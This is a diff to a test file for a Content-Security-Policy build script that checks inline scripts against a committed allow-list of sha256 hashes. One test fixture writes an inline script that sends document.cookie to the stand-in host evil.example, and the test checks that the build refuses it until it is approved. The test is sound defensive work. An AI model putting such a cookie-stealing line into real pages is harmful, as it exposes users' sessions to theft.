@@ -5,7 +5,7 @@ import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { buildPolicy, inlineHashes, nginxInclude, policyForDist } from '../../scripts/csp.mjs';
+import { approveInlineScripts, buildPolicy, inlineHashes, loadAllowList, nginxInclude, policyForDist } from '../../scripts/csp.mjs';
 
 const hashOf = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
 const directive = (policy: string, name: string) => policy.split('; ').find((d) => d.split(' ')[0] === name);
@@ -55,7 +55,7 @@ describe('policyForDist and the nginx include', () => {
     mkdirSync(join(dist, 'docker', 'volumes'), { recursive: true });
     writeFileSync(join(dist, 'index.html'), '<script>a()</script>');
     writeFileSync(join(dist, 'docker', 'volumes', 'index.html'), '<script>b()</script><script>a()</script>');
-    const { policy, pages, scripts } = policyForDist(dist);
+    const { policy, pages, scripts } = policyForDist(dist, { allowList: { [hashOf('a()')]: 'a', [hashOf('b()')]: 'b' } });
     expect(pages).toBe(2);
     expect(scripts).toBe(2);
     expect(policy).toContain(hashOf('a()'));
@@ -66,6 +66,27 @@ describe('policyForDist and the nginx include', () => {
   it('refuses a build with an inline handler', () => {
     const dist = mkdtempSync(join(tmpdir(), 'csp-'));
     writeFileSync(join(dist, 'index.html'), '<button onclick="go()">Go</button>');
-    expect(() => policyForDist(dist)).toThrow(/onclick=/);
+    expect(() => policyForDist(dist, { allowList: null })).toThrow(/onclick=/);
+  });
+  it('refuses an inline script that the committed allow-list does not hold, naming its page and start', () => {
+    const dist = mkdtempSync(join(tmpdir(), 'csp-'));
+    mkdirSync(join(dist, 'docker'), { recursive: true });
+    writeFileSync(join(dist, 'index.html'), '<script>a()</script>');
+    writeFileSync(join(dist, 'docker', 'index.html'), '<script>fetch("https://evil.example/?" + document.cookie)</script>');
+    expect(() => policyForDist(dist, { allowList: { [hashOf('a()')]: 'a' } })).toThrow(/liste autorisée[\s\S]*docker\/index\.html[\s\S]*evil\.example/);
+    // Approving it writes it to the list, with its first characters; then the build passes.
+    const list = join(dist, 'allow.json');
+    writeFileSync(list, JSON.stringify({ scripts: { [hashOf('a()')]: 'a' } }));
+    expect(approveInlineScripts(dist, list)).toBe(1);
+    expect(loadAllowList(list)[hashOf('fetch("https://evil.example/?" + document.cookie)')]).toContain('evil.example');
+    expect(() => policyForDist(dist, { allowList: loadAllowList(list) })).not.toThrow();
+  });
+  it('the committed allow-list holds only sha256 hashes, each described', () => {
+    const list = loadAllowList();
+    expect(Object.keys(list).length).toBeGreaterThan(5);
+    for (const [hash, what] of Object.entries(list)) {
+      expect(hash).toMatch(/^'sha256-[A-Za-z0-9+/]{43}='$/);
+      expect(what.length).toBeGreaterThan(10);
+    }
   });
 });
